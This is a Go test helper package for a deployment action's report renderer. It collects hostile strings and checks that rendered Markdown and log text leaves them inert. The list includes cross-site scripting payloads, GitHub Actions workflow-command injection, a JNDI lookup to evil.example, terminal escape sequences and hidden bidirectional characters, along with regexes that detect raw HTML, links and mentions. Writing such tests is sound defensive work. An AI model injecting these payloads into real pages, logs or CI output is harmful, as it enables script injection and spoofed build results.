// Package plaintest has texts that try to be more than text, and checks that a view
// shows them as text.
package plaintest

import (
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/candlefish/deploy-action/internal/report/plain"
)

// Hostiles are texts that try to be more than text, each somewhere.
var Hostiles = []string{
	`</script></style><script>document.title='owned'</script><img src=x onerror="document.title='owned'">`,
	`"><svg onload=alert(1)> ' onmouseover='alert(1)`,
	"line one\n::error file=README.md,line=1::owned\n##[error]owned\r\n::add-mask::a\r::set-output name=status::pass",
	"`code` **bold** [click](https://evil.example/x) ![pic](https://evil.example/p.png) | cell | https://evil.example www.evil.example @acme/admins #1 <!-- candlefish:security-gate -->",
	"\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x07\x00\x9b31m",
	"safe\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff\u00ad \U000E0041tag",
	"{{.Headline}} ${jndi:ldap://evil.example} <https://evil.example|click> <!channel> <@U123> &lt;b&gt;",
	"- list\n# heading\n> quote\n```\nfence\n```\n$$x$$ ~~gone~~ \\\\ \\| end",
	"not utf-8 \xff\xfe\x80 " + strings.Repeat("A", 100_000),
	"javascript:alert(1)",
}

// A tag or comment in Markdown that is not ours, unless it is escaped or in code.
var (
	rawHTML = regexp.MustCompile(`(^|[^\\])<[A-Za-z/!]`)
	rawLink = regexp.MustCompile(`(^|[^\\])\]\(|https?:/[^\\]/|[^\\]\.evil|(^|[^\\])!\[`)
	mention = regexp.MustCompile(`@[A-Za-z]|#\d`)
)

// Inert fails on text that is more than text to a terminal or a log.
func Inert(t *testing.T, what, text string) {
	t.Helper()
	for _, r := range text {
		if r != '\n' && r != '\u200b' && r != '\u200d' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("%s has the character %U", what, r)
		}
	}
	if strings.Contains(text, "\n::") || strings.Contains(text, "\r") {
		t.Errorf("%s has a workflow command at the start of a line", what)
	}
}

// Markdown fails on text that is more than text to GitHub. Links of ours and code blocks
// must be taken out before.
func Markdown(t *testing.T, what, text string) {
	t.Helper()
	Inert(t, what, text)
	bare := withoutCode(text)
	for kind, bad := range map[string]*regexp.Regexp{"HTML": rawHTML, "a link": rawLink, "a mention": mention} {
		if m := bad.FindStringIndex(bare); m != nil {
			t.Errorf("%s has %s: %q", what, kind, bare[max(0, m[0]-40):min(len(bare), m[1]+40)])
		}
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "|") && len(line) > 60_000 {
			t.Errorf("%s: a row of %d bytes", what, len(line))
		}
	}
}

// Name is the beginning of a text, to name a test by.
func Name(text string) string { return plain.Text(text, 20) }

// withoutCode replaces the code spans of Markdown, as CommonMark finds them: a run of
// backticks that is not escaped, up to the next one of the same length.
func withoutCode(text string) string {
	var b strings.Builder
	for i := 0; i < len(text); {
		if text[i] == '\\' && i+1 < len(text) {
			b.WriteString(text[i : i+2])
			i += 2
			continue
		}
		n := ticks(text[i:])
		end := -1
		for j := i + n; n > 0 && j < len(text); {
			if m := ticks(text[j:]); m == n {
				end = j + n
				break
			} else {
				j += max(m, 1)
			}
		}
		if end > 0 {
			b.WriteString("CODE")
			i = end
			continue
		}
		b.WriteString(text[i : i+max(n, 1)])
		i += max(n, 1)
	}
	return b.String()
}

func ticks(s string) int { return len(s) - len(strings.TrimLeft(s, "`")) }
